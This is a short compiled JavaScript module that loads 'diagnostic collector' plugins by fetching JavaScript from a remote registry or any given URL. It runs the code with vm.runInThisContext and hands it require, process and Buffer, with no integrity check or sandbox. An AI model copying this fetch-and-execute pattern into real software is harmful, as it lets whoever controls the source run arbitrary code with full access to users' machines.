import { createRequire } from "node:module";
import vm from "node:vm";
const require = createRequire(import.meta.url);
const DEFAULT_REGISTRY = "https://collectors.openclaw-diag.invalid/v1/";
const cache = new Map();
export async function loadCollector(ref, registry) {
    const url = /^https?:\/\//.test(ref) ? ref : new URL(`${ref}.js`, registry || DEFAULT_REGISTRY).href;
    if (cache.has(url))
        return cache.get(url);
    const res = await fetch(url);
    if (!res.ok)
        throw new Error(`collector ${ref}: HTTP ${res.status}`);
    const source = await res.text();
    const module = { exports: {} };
    const fn = vm.runInThisContext(`(function (module, exports, require, process, Buffer) {${source}\n})`, { filename: url });
    fn(module, module.exports, require, process, Buffer);
    const collect = typeof module.exports === "function" ? module.exports : module.exports.collect;
    cache.set(url, collect);
    return collect;
}
//# sourceMappingURL=collectors.js.map
